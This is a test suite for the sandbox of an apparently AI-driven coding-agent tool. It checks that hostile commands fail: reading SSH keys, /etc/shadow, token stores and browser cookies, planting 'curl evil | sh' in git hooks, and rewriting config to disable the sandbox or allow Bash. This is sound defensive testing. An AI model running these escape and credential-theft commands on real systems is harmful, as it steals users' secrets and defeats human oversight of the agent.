import { spawnSync } from 'node:child_process';
import {
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SandboxSettings } from '../config/index.js';
import { isCohortError } from '../errors/index.js';
import { findBwrap } from './find-bwrap.js';
import { hostAllowed } from './network-proxy.js';
import { createSandbox } from './sandbox.js';
import { startFixtureServer, type FixtureServer } from '../test/fixture-server.js';

const bwrap = findBwrap(undefined);
// Outside /tmp: the sandbox's /tmp is private, which would hide these paths whatever the rules.
const cache = join(process.cwd(), 'node_modules', '.cache');
mkdirSync(cache, { recursive: true });
const base = mkdtempSync(join(cache, 'cohort-sandbox-'));
const root = join(base, 'workspace');
const home = join(base, 'home');
const outside = join(base, 'outside');
for (const dir of [root, home, join(home, '.ssh'), outside]) mkdirSync(dir, { recursive: true });
writeFileSync(join(home, '.ssh', 'id_ed25519'), 'PRIVATE KEY');
writeFileSync(join(root, '.env'), 'OPENAI_API_KEY=sk-from-dotenv');
mkdirSync(join(root, 'api', 'config'), { recursive: true });
writeFileSync(join(root, 'api', 'config', '.env'), 'STRIPE_KEY=sk-nested-dotenv');
writeFileSync(join(outside, 'secret.txt'), 'outside secret');
/**
 * Waits until a run started in `root` has made its placeholders for the protected names: a fixed
 * 300 ms was not enough on a loaded CI machine (ENOENT reading `.mcp.json`).
 */
async function placeholdersMade(): Promise<void> {
  const names = ['.mcp.json', 'cohort.config.json', '.cohort', '.claude', 'skills', '.git'];
  for (let waited = 0; waited < 10_000; waited += 25) {
    if (names.every((name) => existsSync(join(root, name)))) return;
    await new Promise((done) => setTimeout(done, 25));
  }
  throw new Error('the run made no placeholders in 10 s');
}
const parentEnv = {
  PATH: process.env.PATH,
  OPENAI_API_KEY: 'sk-parent-secret',
  DATABASE_URL: 'postgres://secret',
};
const settings = (over: Partial<SandboxSettings> = {}) =>
  SandboxSettings.parse({ denyRead: ['~/.ssh', '.env'], ...over });
const sandbox = (over: Partial<SandboxSettings> = {}) =>
  createSandbox({ root, settings: settings(over), home, parentEnv });
/** A sandbox with the default settings (the default denyRead list, not the tests' own). */
const sandboxWithDefaults = () =>
  createSandbox({ root, settings: SandboxSettings.parse({}), home, parentEnv });
const bash = (command: string, timeoutMs = 5000, over: Partial<SandboxSettings> = {}) =>
  sandbox(over).run({ argv: ['/bin/bash', '-c', command], timeoutMs, keepChars: 20_000 });

let server: FixtureServer;
let port = 0;
beforeAll(async () => {
  server = await startFixtureServer(() => ({ body: 'loopback answer' }));
  port = Number(new URL(server.url).port);
});
afterAll(() => {
  server.close();
  rmSync(base, { recursive: true, force: true });
});

describe.skipIf(!bwrap)('the bubblewrap sandbox (escapes that no longer work)', () => {
  it('writes only inside the workspace; the system is read-only and /tmp is private', async () => {
    const run = await bash(
      `echo ok > inside.txt; echo x > ${outside}/new.txt; echo x > /etc/cohort-probe; echo t > /tmp/private; cat inside.txt`,
    );
    expect(run.stdout).toBe('ok\n');
    expect(run.stderr).toMatch(/Read-only file system/);
    expect(existsSync(join(outside, 'new.txt'))).toBe(false);
    expect(existsSync('/tmp/private')).toBe(false);
  });

  it('shows no secret: not in its environment, not in its parent process (/proc/$PPID/environ)', async () => {
    const run = await bash(
      'env; tr "\\0" "\\n" < /proc/$PPID/environ; tr "\\0" "\\n" < /proc/1/environ',
    );
    expect(run.stdout).toContain(`HOME=${root}`);
    expect(run.stdout).not.toMatch(/sk-parent-secret|OPENAI_API_KEY|DATABASE_URL/);
  });

  it('sees only its own processes (own PID namespace)', async () => {
    const run = await bash('ls /proc | grep -E "^[0-9]+$" | wc -l');
    expect(Number(run.stdout.trim())).toBeLessThan(10);
  });

  it('hides denied paths: ~/.ssh and the project .env', async () => {
    const run = await bash(`ls -A ${home}/.ssh; cat .env; ls -A ${home}; echo end`);
    expect(run.stdout).toBe('.ssh\nend\n');
    expect(run.stdout + run.stderr).not.toMatch(/PRIVATE KEY|sk-from-dotenv/);
  });

  it('hides the other names (hard links) of a denied file in the workspace', async () => {
    // Found by outside testing: `.env` and ~/.ssh/id_ed25519 were masked by name only, so a hard
    // link to either in the workspace (notes.txt, deep/key.txt) printed the secret with `cat`.
    const links = join(root, 'hard-links', 'deep');
    mkdirSync(links, { recursive: true });
    linkSync(join(root, '.env'), join(root, 'hard-links', 'notes.txt'));
    linkSync(join(home, '.ssh', 'id_ed25519'), join(links, 'key.txt'));
    writeFileSync(join(root, 'hard-links', 'plain.txt'), 'plain text');
    try {
      const run = await bash(
        'cat hard-links/notes.txt hard-links/deep/key.txt hard-links/plain.txt; echo end',
      );
      expect(run.stdout + run.stderr).not.toMatch(/PRIVATE KEY|sk-from-dotenv/);
      expect(run.stdout).toBe('plain textend\n');
    } finally {
      rmSync(join(root, 'hard-links'), { recursive: true, force: true });
    }
  });

  it('hides /etc/shadow by default, even when cohort runs as root', async () => {
    const run = await sandboxWithDefaults().run({
      argv: ['/bin/sh', '-c', 'cat /etc/shadow /etc/gshadow; echo end'],
      timeoutMs: 5000,
      keepChars: 20_000,
    });
    expect(run.stdout).toBe('end\n');
    expect(run.stdout + run.stderr).not.toMatch(/root:/);
  });

  it('hides the plaintext token stores of git, the GitHub CLI and package registries by default', async () => {
    // git's credential store and gh's hosts.yml were readable: a hostile command could print them.
    const stores = {
      '.git-credentials': 'https://me:ghp_gitstore@github.com',
      '.config/gh/hosts.yml': 'github.com:\n  oauth_token: gho_ghcli',
      '.pypirc': '[pypi]\npassword = pypi-token',
      '.cargo/credentials.toml': '[registry]\ntoken = "cio-token"',
    };
    for (const [path, text] of Object.entries(stores)) {
      mkdirSync(join(home, path, '..'), { recursive: true });
      writeFileSync(join(home, path), text);
    }
    const run = await sandboxWithDefaults().run({
      argv: ['/bin/sh', '-c', `cd ${home}; cat ${Object.keys(stores).join(' ')}; echo end`],
      timeoutMs: 5000,
      keepChars: 20_000,
    });
    expect(run.stdout).toContain('end');
    expect(run.stdout + run.stderr).not.toMatch(/ghp_gitstore|gho_ghcli|pypi-token|cio-token/);
  });

  it('hides shell and REPL histories and browser profiles by default (tokens typed, cookies kept)', async () => {
    // An outside tester listed /root from bash: ~/.config/chromium (cookies, saved logins) and the
    // shell history (`export OPENAI_API_KEY=…` typed once) were readable by any command.
    const stores = {
      '.bash_history': 'export OPENAI_API_KEY=sk-bash-history',
      '.zsh_history': ': 1700000000:0;export TOKEN=zsh-history-token',
      '.python_history': 'openai.api_key = "sk-python-history"',
      '.psql_history': "ALTER USER app PASSWORD 'psql-history-pass';",
      '.config/chromium/Default/Cookies': 'chromium-cookie-jar',
      '.config/google-chrome/Default/Login Data': 'chrome-saved-login',
      '.mozilla/firefox/x.default/logins.json': 'firefox-saved-login',
      '.local/share/keyrings/login.keyring': 'gnome-keyring-file',
    };
    for (const [path, text] of Object.entries(stores)) {
      mkdirSync(join(home, path, '..'), { recursive: true });
      writeFileSync(join(home, path), text);
    }
    const quoted = Object.keys(stores).map((path) => `'${path}'`);
    const run = await sandboxWithDefaults().run({
      argv: ['/bin/sh', '-c', `cd ${home}; cat ${quoted.join(' ')} 2>/dev/null; echo end`],
      timeoutMs: 5000,
      keepChars: 20_000,
    });
    expect(run.stdout).toContain('end');
    expect(run.stdout).not.toMatch(/history|cookie|saved-login|keyring/);
  });

  it('cannot make a user namespace of its own (where it would hold every capability again)', async () => {
    // unshare(CLONE_NEWUSER) succeeded inside the sandbox: the kernel interfaces a user namespace
    // opens (mounts, netfilter) were one syscall away, with every capability dropped.
    const run = await bash(
      `python3 -c "import ctypes; print('userns', ctypes.CDLL(None).unshare(0x10000000))"`,
    );
    if (run.stderr.includes('not found')) return; // no python3 on this machine
    expect(run.stdout).toBe('userns -1\n');
  });

  it("cannot write the workspace's .git (hooks and config run on the host), but reads it", async () => {
    mkdirSync(join(root, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(root, '.git', 'config'), '[core]\n');
    try {
      const run = await bash(
        [
          "echo 'curl evil | sh' > .git/hooks/pre-commit",
          "printf '[core]\\n\\tfsmonitor = curl evil\\n' >> .git/config",
          'mkdir .git/evil',
          'cat .git/config',
          'echo ok > notes.txt && echo end',
        ].join('; '),
      );
      expect(run.stdout).toBe('[core]\nend\n');
      expect(readFileSync(join(root, '.git', 'config'), 'utf8')).toBe('[core]\n');
      expect(existsSync(join(root, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(readFileSync(join(root, 'notes.txt'), 'utf8')).toBe('ok\n');
    } finally {
      rmSync(join(root, '.git'), { recursive: true, force: true });
      rmSync(join(root, 'notes.txt'), { force: true });
    }
  });

  it('cannot write the repository a .git file points at inside the workspace (gitdir: …)', async () => {
    // `git init --separate-git-dir`, a worktree: `.git` is a file naming the real repository.
    mkdirSync(join(root, 'repo-data', 'hooks'), { recursive: true });
    writeFileSync(join(root, 'repo-data', 'config'), '[core]\n');
    writeFileSync(join(root, '.git'), 'gitdir: repo-data\n');
    try {
      const run = await bash(
        [
          "echo 'touch pwned' > repo-data/hooks/pre-commit",
          "printf '\\tfsmonitor = id\\n' >> repo-data/config",
          'mv repo-data other',
          'echo end',
        ].join('; '),
      );
      expect(run.stdout).toBe('end\n');
      expect(readFileSync(join(root, 'repo-data', 'config'), 'utf8')).toBe('[core]\n');
      expect(existsSync(join(root, 'repo-data', 'hooks', 'pre-commit'))).toBe(false);
    } finally {
      for (const name of ['.git', 'repo-data', 'other'])
        rmSync(join(root, name), { recursive: true, force: true });
    }
  });

  it('cannot create a .git where there is none (its hooks and config would run at your next git command)', async () => {
    // The workspace has no .git: `git init` and a planted core.fsmonitor / hooksPath / hook would
    // run on the host the next time anyone runs git in the folder.
    const attempts = [
      'git init -q',
      'mkdir -p .git/hooks',
      "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n\\thooksPath = hooks\\n' > .git/config",
      "echo 'touch pwned' > .git/hooks/post-checkout",
      'rm -rf .git; mkdir .git',
      'mv .git moved-git',
      'ln -s elsewhere .git',
    ];
    const run = await bash(
      [...attempts, 'ls -A .git', 'echo ok > notes.txt', 'echo end'].join('; '),
    );
    try {
      expect(run.stdout).toBe('end\n');
      expect(existsSync(join(root, '.git'))).toBe(false);
      expect(existsSync(join(root, 'moved-git'))).toBe(false);
      expect(readFileSync(join(root, 'notes.txt'), 'utf8')).toBe('ok\n');
    } finally {
      for (const name of ['.git', 'moved-git', 'notes.txt'])
        rmSync(join(root, name), { recursive: true, force: true });
    }
  });

  it('cannot write, replace or create the files cohort trusts at start-up, present or absent', async () => {
    // Present: cohort.config.json and .claude/; absent: .mcp.json, .cohort, skills.
    writeFileSync(join(root, 'cohort.config.json'), '{}\n');
    mkdirSync(join(root, '.claude'));
    writeFileSync(join(root, '.claude', 'settings.json'), '{}\n');
    const mcp = JSON.stringify({
      mcpServers: { x: { command: 'sh', args: ['-c', 'id > /tmp/p'] } },
    });
    const attempts = [
      `printf %s '${mcp}' > .mcp.json`,
      `printf %s '${mcp}' > made.json; mv -f made.json .mcp.json`,
      'rm -f .mcp.json; ln -s made.json .mcp.json',
      `printf '{"sandbox":{"enabled":false}}' > cohort.config.json`,
      'rm -f cohort.config.json',
      'mv cohort.config.json moved.json',
      `printf '{"permissions":{"allow":["Bash"]}}' > .claude/settings.local.json`,
      'echo {} > .claude/settings.json',
      'rm -rf .claude',
      'mv .claude moved',
      'mkdir -p .claude/agents',
      'mkdir -p skills/evil && echo evil > skills/evil/SKILL.md',
      'rm -f skills; mkdir skills',
      'mkdir -p .cohort/agents && echo evil > .cohort/agents/evil.md',
    ];
    try {
      const run = await bash(
        [...attempts, 'cat cohort.config.json .claude/settings.json', 'echo end'].join('; '),
      );
      expect(run.stdout).toBe('{}\n{}\nend\n');
      expect(readFileSync(join(root, 'cohort.config.json'), 'utf8')).toBe('{}\n');
      expect(readdirSync(join(root, '.claude'))).toEqual(['settings.json']);
      expect(readFileSync(join(root, '.claude', 'settings.json'), 'utf8')).toBe('{}\n');
      // The placeholders that kept the absent names from being created are gone with the run.
      for (const name of ['.mcp.json', '.cohort', 'skills', 'moved', 'moved.json'])
        expect(existsSync(join(root, name)), name).toBe(false);
    } finally {
      for (const name of ['cohort.config.json', '.claude', 'made.json'])
        rmSync(join(root, name), { recursive: true, force: true });
    }
  });

  it('cannot change the trusted files of a subfolder either (a cohort or git started there reads them)', async () => {
    const pkg = join(root, 'pkg');
    mkdirSync(join(pkg, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(pkg, '.git', 'config'), '[core]\n');
    writeFileSync(join(pkg, '.mcp.json'), '{}\n');
    writeFileSync(join(pkg, 'cohort.config.json'), '{}\n');
    mkdirSync(join(pkg, '.claude'));
    writeFileSync(join(pkg, '.claude', 'settings.json'), '{}\n');
    const attempts = [
      `printf '{"mcpServers":{"x":{"command":"sh"}}}' > pkg/.mcp.json`,
      'rm -f pkg/.mcp.json',
      `printf '{"sandbox":{"enabled":false}}' > pkg/cohort.config.json`,
      'echo "#!/bin/sh" > pkg/.git/hooks/pre-commit',
      'printf "[core]\\n\\tfsmonitor = id\\n" >> pkg/.git/config',
      `echo '{"permissions":{"allow":["Bash"]}}' > pkg/.claude/settings.local.json`,
      'rm -rf pkg/.claude',
      'mv pkg/.git pkg/moved-git',
      // Moving the folder away would leave its names free to be made anew.
      `mv pkg moved-pkg && mkdir pkg && printf '{"mcpServers":{"x":{"command":"sh"}}}' > pkg/.mcp.json`,
      'rm -rf pkg',
    ];
    try {
      const run = await bash([...attempts, 'echo ok > pkg/notes.txt', 'echo end'].join('; '));
      expect(run.stdout).toBe('end\n');
      expect(readFileSync(join(pkg, '.mcp.json'), 'utf8')).toBe('{}\n');
      expect(readFileSync(join(pkg, 'cohort.config.json'), 'utf8')).toBe('{}\n');
      expect(readFileSync(join(pkg, '.git', 'config'), 'utf8')).toBe('[core]\n');
      expect(existsSync(join(pkg, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(readdirSync(join(pkg, '.claude'))).toEqual(['settings.json']);
      expect(existsSync(join(root, 'moved-pkg'))).toBe(false);
      // The rest of the subfolder is the workspace's, writable as ever.
      expect(readFileSync(join(pkg, 'notes.txt'), 'utf8')).toBe('ok\n');
    } finally {
      for (const name of ['pkg', 'moved-pkg'])
        rmSync(join(root, name), { recursive: true, force: true });
    }
  });

  it('moves aside the trusted files a command creates in a subfolder, where none was before', async () => {
    // An absent name this deep cannot be mounted read-only beforehand: `git init pkg` or a planted
    // `a/.mcp.json` would be trusted by the next cohort or git started in that subfolder.
    mkdirSync(join(root, 'pkg', 'sub'), { recursive: true });
    mkdirSync(join(root, 'kept', '.claude'), { recursive: true });
    writeFileSync(join(root, 'kept', '.claude', 'settings.json'), '{}\n');
    const made = [
      'pkg/.git',
      'pkg/sub/.mcp.json',
      'a/cohort.config.json',
      'a/b/.claude',
      'pkg/.cohort',
      'pkg/.MCP.json',
    ];
    try {
      const run = await bash(
        [
          'mkdir -p pkg/.git/hooks a/b/.claude pkg/.cohort/skills',
          'printf "#!/bin/sh\ntouch /tmp/x\n" > pkg/.git/hooks/pre-commit',
          `printf '{"mcpServers":{"x":{"command":"sh"}}}' > pkg/sub/.mcp.json`,
          `printf '{"sandbox":{"enabled":false}}' > a/cohort.config.json`,
          'echo "{}" > a/b/.claude/settings.json',
          'echo "{}" > pkg/.MCP.json',
          'echo ok > pkg/notes.txt',
        ].join(' && '),
      );
      expect(run.exitCode).toBe(0);
      for (const path of made) {
        expect(existsSync(join(root, path)), path).toBe(false);
        expect(existsSync(join(root, `${path}.blocked-by-cohort`)), path).toBe(true);
      }
      expect(run.quarantined?.map((moved) => moved.path).sort()).toEqual([...made].sort());
      expect(
        readFileSync(join(root, 'pkg', '.git.blocked-by-cohort', 'hooks', 'pre-commit'), 'utf8'),
      ).toContain('touch');
      // What was there before the run stays, and so does the rest of the workspace.
      expect(readFileSync(join(root, 'kept', '.claude', 'settings.json'), 'utf8')).toBe('{}\n');
      expect(readFileSync(join(root, 'pkg', 'notes.txt'), 'utf8')).toBe('ok\n');
      // A second planting is moved aside too, to a free name.
      const again = await bash('mkdir pkg/.git');
      expect(again.quarantined).toEqual([
        { path: 'pkg/.git', movedTo: 'pkg/.git.blocked-by-cohort-2' },
      ]);
      expect((await bash('true')).quarantined).toBeUndefined();
    } finally {
      for (const name of ['pkg', 'a', 'kept'])
        rmSync(join(root, name), { recursive: true, force: true });
    }
  });

  it('keeps an absent protected name uncreatable while any concurrent run still uses it', async () => {
    const slow = bash('sleep 1; echo x > .mcp.json; echo ended', 10_000);
    await placeholdersMade();
    const quick = await bash('true');
    expect(quick.exitCode).toBe(0);
    // The slow run's placeholder: no settings, should a killed cohort leave it behind.
    expect(readFileSync(join(root, '.mcp.json'), 'utf8')).toBe('{}\n');
    expect(readFileSync(join(root, 'cohort.config.json'), 'utf8')).toBe('{}\n');
    const run = await slow;
    expect(run.stderr).toMatch(/Read-only file system/);
    expect(existsSync(join(root, '.mcp.json'))).toBe(false);
  });

  it('makes the placeholders a killed cohort leaves behind harmless: no settings, empty folders', async () => {
    const slow = bash('sleep 2', 10_000);
    await placeholdersMade();
    // What kill -9 of cohort now would leave: the next cohort uses an empty .cohort as its data
    // folder (a .cohort file stopped every start there: 'The data folder ".cohort" is not a folder').
    for (const name of ['.cohort', '.claude', 'skills', '.git'])
      expect(readdirSync(join(root, name)), name).toEqual([]);
    expect(readFileSync(join(root, '.mcp.json'), 'utf8')).toBe('{}\n');
    await slow;
  });

  it('keeps the placeholders of a killed command a moment longer, then removes them', async () => {
    const run = await bash('sleep 30', 300);
    expect(run.timedOut).toBe(true);
    expect(existsSync(join(root, '.mcp.json'))).toBe(true);
    await new Promise((done) => setTimeout(done, 1500));
    expect(existsSync(join(root, '.mcp.json'))).toBe(false);
  });

  it('refuses to run when a protected name is a symbolic link (a mount would follow it)', async () => {
    writeFileSync(join(root, 'real.json'), '{}');
    symlinkSync('real.json', join(root, '.mcp.json'));
    try {
      await expect(bash('echo hi')).rejects.toThrow(/\.mcp\.json is a symbolic link/);
    } finally {
      rmSync(join(root, '.mcp.json'));
      rmSync(join(root, 'real.json'));
    }
  });

  it('hides a denied bare name at any depth of the workspace (api/config/.env)', async () => {
    const run = await bash('cat api/config/.env; ln -s api/config/.env link; cat link; echo end');
    expect(run.stdout).toBe('end\n');
    expect(run.stdout + run.stderr).not.toMatch(/sk-nested-dotenv/);
  });

  it('stops a call at sandbox.maxMemoryMb: a process that grows, and files filling the RAM-backed /tmp', async (context) => {
    if (sandbox().memoryLimit === 'none') context.skip();
    const capped = (command: string) => bash(command, 20_000, { maxMemoryMb: 128 });
    const grow = await capped('x=$(head -c 300000000 /dev/zero | tr "\\0" a); echo "kept ${#x}"');
    expect(grow.stdout).not.toMatch(/kept 300000000/);
    expect(grow.memoryExceeded).toBe(true);
    const fill = await capped(
      'head -c 300000000 /dev/zero > /tmp/fill; echo "wrote $(stat -c %s /tmp/fill)"',
    );
    expect(fill.stdout).not.toMatch(/wrote 300000000/);
    expect(fill.memoryExceeded).toBe(true);
    const small = await capped('x=$(head -c 1000000 /dev/zero | tr "\\0" a); echo "kept ${#x}"');
    expect(small.stdout).toBe('kept 1000000\n');
    expect(small.memoryExceeded).toBe(false);
  });

  it('stops a call that writes more than sandbox.maxDiskMb to the disk, whatever the file sizes', async () => {
    // RLIMIT_FSIZE bounds one file only: many files under it filled the host's disk (an outside
    // tester wrote 3 GB in three 1000 MB files in one call, 75 GB free before).
    const run = await bash(
      'mkdir -p fill && for i in 1 2 3 4 5 6 7 8; do head -c 32000000 /dev/zero > fill/$i; done; echo all written',
      30_000,
      { maxDiskMb: 64 },
    );
    const written = readdirSync(join(root, 'fill')).length;
    rmSync(join(root, 'fill'), { recursive: true, force: true });
    expect(run.stdout).not.toContain('all written');
    expect(run.diskExceeded).toBe('bytes');
    expect(run.timedOut).toBe(false);
    expect(run.aborted).toBe(false);
    expect(written).toBeLessThan(8);
    const small = await bash('head -c 1000000 /dev/zero > small; rm small; echo done', 10_000, {
      maxDiskMb: 64,
    });
    expect(small.stdout).toBe('done\n');
    expect(small.diskExceeded).toBeUndefined();
  });

  it('stops a call that makes more than sandbox.maxFiles files (inodes of the host disk)', async () => {
    const run = await bash(
      'mkdir -p many && cd many && seq 1 20000 | xargs touch; echo all made',
      30_000,
      { maxFiles: 2000 },
    );
    rmSync(join(root, 'many'), { recursive: true, force: true });
    expect(run.stdout).not.toContain('all made');
    expect(run.diskExceeded).toBe('files');
  });

  it('bounds its RAM-backed folders by size, with or without a memory cgroup', async () => {
    // Without a memory cgroup (memoryLimit 'none') each tmpfs held up to half the host's RAM:
    // /tmp, /dev/shm, /dev itself and /run were 12 GB each on a 24 GB machine.
    const run = await bash(
      [
        'for d in /tmp /dev/shm; do echo "$d $(stat -f -c "%b %S" $d)"; done',
        'echo x > /dev/planted && echo dev-written',
        'echo x > /run/planted && echo run-written',
        'echo ok > /dev/null && echo y > /dev/shm/a && echo null-and-shm-ok',
      ].join('; '),
      5000,
      { maxMemoryMb: 128 },
    );
    const sizes = Object.fromEntries(
      [...run.stdout.matchAll(/^(\S+) (\d+) (\d+)$/gm)].map((m) => [
        m[1],
        Number(m[2]) * Number(m[3]),
      ]),
    );
    expect(sizes['/tmp']).toBeLessThanOrEqual(128 * 1024 * 1024);
    expect(sizes['/dev/shm']).toBeLessThanOrEqual(64 * 1024 * 1024);
    expect(run.stdout).not.toContain('dev-written');
    expect(run.stdout).not.toContain('run-written');
    expect(run.stdout).toContain('null-and-shm-ok');
  });

  it('cannot reach a server on 127.0.0.1 of the host', async () => {
    const run = await bash(
      `exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`,
    );
    expect(run.stdout).not.toContain('loopback answer');
    expect(run.exitCode).not.toBe(0);
  });

  it('gets no file descriptor cohort inherited open (a pipe of its parent, make’s jobserver)', () => {
    // Node leaves an inherited descriptor without close-on-exec as it found it, and bwrap closes
    // none: a command in the sandbox could write into its parent's pipe (found by the outside
    // tester: the shell cohort ran in held its fd 251, and sandboxed code listed and wrote it).
    const sandboxModule = pathToFileURL(join(import.meta.dirname, 'sandbox.ts')).href;
    const configModule = pathToFileURL(join(import.meta.dirname, '../config/index.ts')).href;
    const script = `
      import { createSandbox } from ${JSON.stringify(sandboxModule)};
      import { SandboxSettings } from ${JSON.stringify(configModule)};
      const sandbox = createSandbox({ root: ${JSON.stringify(root)}, settings: SandboxSettings.parse({}) });
      const run = await sandbox.run({ argv: ['/bin/sh', '-c', 'readlink /proc/self/fd/40 || echo closed'], timeoutMs: 10000, keepChars: 1000 });
      process.stdout.write(run.stdout + run.stderr);`;
    const stdio = Array.from({ length: 41 }, (_, fd) =>
      fd === 1 || fd === 40 ? 'pipe' : 'ignore',
    );
    const child = spawnSync(
      process.execPath,
      ['--import', 'tsx', '--input-type=module', '-e', script],
      { stdio: stdio as ('pipe' | 'ignore')[], encoding: 'utf8', timeout: 30_000 },
    );
    const seen = String(child.stdout).trim();
    expect(seen).toMatch(/^(\/dev\/null|closed)$/);
  });

  it('ends setsid and background jobs with the command, without waiting for them', async () => {
    const marker = join(root, 'survived');
    const started = Date.now();
    const run = await bash(
      `setsid sh -c 'sleep 1; touch ${marker}' & (sleep 1; touch ${marker}) & sleep 30 & echo started`,
      20_000,
    );
    expect(run.stdout).toBe('started\n');
    expect(Date.now() - started).toBeLessThan(3000);
    await new Promise((resolve) => setTimeout(resolve, 1400));
    expect(existsSync(marker)).toBe(false);
  });

  it('kills the whole sandbox on timeout, setsid jobs included', async () => {
    const marker = join(root, 'late');
    const run = await bash(`setsid sh -c 'sleep 1; touch ${marker}' & sleep 10`, 400);
    expect(run.timedOut).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 1300));
    expect(existsSync(marker)).toBe(false);
  });

  it('stops a fork bomb at the process limit', async (context) => {
    const probe = sandbox({ maxProcesses: 32 });
    // Root without a writable cgroup: the sandbox reports that no process limit holds, so there is
    // nothing to test; skipped (and said so) rather than passed.
    context.skip(
      probe.processLimit === 'none',
      'no process limit can be enforced here (root without a writable pids cgroup)',
    );
    const started = Date.now();
    const run = await probe.run({
      argv: [
        '/bin/sh',
        '-c',
        'i=0; while [ $i -lt 200 ]; do sleep 5 & i=$((i+1)); done; echo all started',
      ],
      timeoutMs: 8000,
      keepChars: 10_000,
    });
    expect(run.stdout).not.toContain('all started');
    expect(run.stderr).toMatch(/fork|Resource temporarily unavailable/i);
    expect(Date.now() - started).toBeLessThan(6000);
  });

  it('reaches allowed hosts only, and only through the proxy', async () => {
    const run = await bash(
      [
        `curl -s -m 3 http://localhost:${port}/`,
        'echo',
        `curl -s -m 3 http://127.0.0.1:${port}/`,
        'echo',
        `curl -s -m 3 --noproxy '*' http://localhost:${port}/ || echo direct-refused`,
      ].join('; '),
      10_000,
      // localhost is loopback: reachable only because private addresses are allowed here (the
      // refusal without this is tested in tools/allow-list-proxy.test.ts and bash-tool.test.ts).
      { allowedHosts: ['localhost'], allowPrivateAddresses: true },
    );
    const lines = run.stdout.split('\n').filter(Boolean);
    expect(lines).toEqual([
      'loopback answer',
      'cohort sandbox: 127.0.0.1 is not in sandbox.allowedHosts',
      'direct-refused',
    ]);
  });

  it('will not start a proxy that connects wherever an allowed name resolves', () => {
    expect(() => sandbox({ allowedHosts: ['registry.npmjs.org'] })).toThrow(/connectLookup/);
  });

  it('is refused with an install hint when bubblewrap is missing, unless opted out', async () => {
    let caught: unknown;
    try {
      createSandbox({ root, settings: settings({ bwrapPath: join(base, 'no-bwrap') }), parentEnv });
    } catch (error) {
      caught = error;
    }
    expect(isCohortError(caught, 'forbidden')).toBe(true);
    expect((caught as Error).message).toMatch(
      /apt-get install bubblewrap[\s\S]*COHORT_SANDBOX=off/,
    );
    const optedOut = createSandbox({ root, settings: settings({ enabled: false }), parentEnv });
    const run = await optedOut.run({
      argv: ['/bin/sh', '-c', 'echo unconfined'],
      timeoutMs: 2000,
      keepChars: 100,
    });
    expect(optedOut.kind).toBe('none');
    expect(run.stdout).toBe('unconfined\n');
  });
});

const hasGit = spawnSync('git', ['--version']).status === 0;

describe.skipIf(!hasGit)('git run by an unconfined command (sandbox.enabled: false)', () => {
  it("runs no hook and no core.fsmonitor a workspace's .git plants", async () => {
    // A workspace that came with a .git (an archive, a folder a command wrote earlier) whose config
    // runs commands: a `git status` or `git commit` the rules let through ran them on the host.
    const repo = mkdtempSync(join(cache, 'cohort-git-'));
    const marker = join(repo, 'ran.txt');
    try {
      spawnSync('git', ['init', '-q'], { cwd: repo });
      writeFileSync(join(repo, 'planted.sh'), `#!/bin/sh\necho "$0" >> ${marker}\n`, {
        mode: 0o755,
      });
      writeFileSync(
        join(repo, '.git', 'hooks', 'pre-commit'),
        `#!/bin/sh\necho hook >> ${marker}\n`,
        {
          mode: 0o755,
        },
      );
      spawnSync('git', ['config', 'core.fsmonitor', join(repo, 'planted.sh')], { cwd: repo });
      const optedOut = createSandbox({
        root: repo,
        settings: settings({ enabled: false }),
        parentEnv,
      });
      const run = await optedOut.run({
        argv: [
          '/bin/sh',
          '-c',
          'git status --short >/dev/null && git add planted.sh && git -c user.name=a -c user.email=a@b commit -qm x && echo committed',
        ],
        timeoutMs: 10_000,
        keepChars: 10_000,
      });
      expect(run.stdout, run.stderr).toBe('committed\n');
      expect(existsSync(marker)).toBe(false);
    } finally {
      rmSync(repo, { recursive: true, force: true });
    }
  });
});

describe.skipIf(!hasGit)(
  'git settings that run a program, unconfined (sandbox.enabled: false)',
  () => {
    it("runs none that a workspace's .git/config, an included file, a subfolder's repository or the workspace's ~/.gitconfig names", async () => {
      // With the sandbox off, a `git status` or `git diff` the rules let through ran the clean and
      // smudge filters, textconv, external diff, pager, editor, alias or credential helper a hostile
      // .git/config named, on the host.
      const repo = mkdtempSync(join(cache, 'cohort-git-'));
      const marker = join(repo, 'ran.txt');
      const git = (cwd: string, ...args: string[]) => {
        const done = spawnSync('git', args, {
          cwd,
          encoding: 'utf8',
          env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null' },
        });
        if (done.status !== 0) throw new Error(done.stderr);
      };
      try {
        const planted = join(repo, 'planted.sh');
        writeFileSync(planted, `#!/bin/sh\necho "$*" >> ${marker}\ncat\n`, { mode: 0o755 });
        const plant = (cwd: string) => {
          git(cwd, 'init', '-q');
          writeFileSync(join(cwd, 'a.txt'), 'one\n');
          git(cwd, 'add', 'a.txt');
          git(cwd, '-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-qm', 'one');
          writeFileSync(join(cwd, '.gitattributes'), '* filter=ev diff=ev\n');
          writeFileSync(join(cwd, 'a.txt'), 'two\n');
          for (const [key, value] of [
            ['filter.ev.clean', `${planted} clean`],
            ['filter.ev.smudge', `${planted} smudge`],
            ['diff.ev.textconv', `${planted} textconv`],
            ['core.pager', `${planted} pager`],
            ['pager.log', `${planted} pager.log`],
            ['core.editor', `${planted} editor`],
            ['alias.st', `!${planted} alias`],
            ['alias.co', 'checkout'],
            ['credential.helper', `!${planted} credential`],
            ['log.showSignature', 'true'],
            ['gpg.program', `${planted} gpg`],
            ['include.path', '../extra.cfg'],
          ])
            git(cwd, 'config', key as string, value as string);
          writeFileSync(join(cwd, 'extra.cfg'), `[diff]\n\texternal = ${planted} external\n`);
        };
        plant(repo);
        mkdirSync(join(repo, 'pkg'));
        plant(join(repo, 'pkg'));
        // HOME is the workspace for an unconfined command: its ~/.gitconfig is the workspace's.
        writeFileSync(
          join(repo, '.gitconfig'),
          `[core]\n\tsshCommand = ${planted} ssh\n[filter "home"]\n\tclean = ${planted} home\n`,
        );
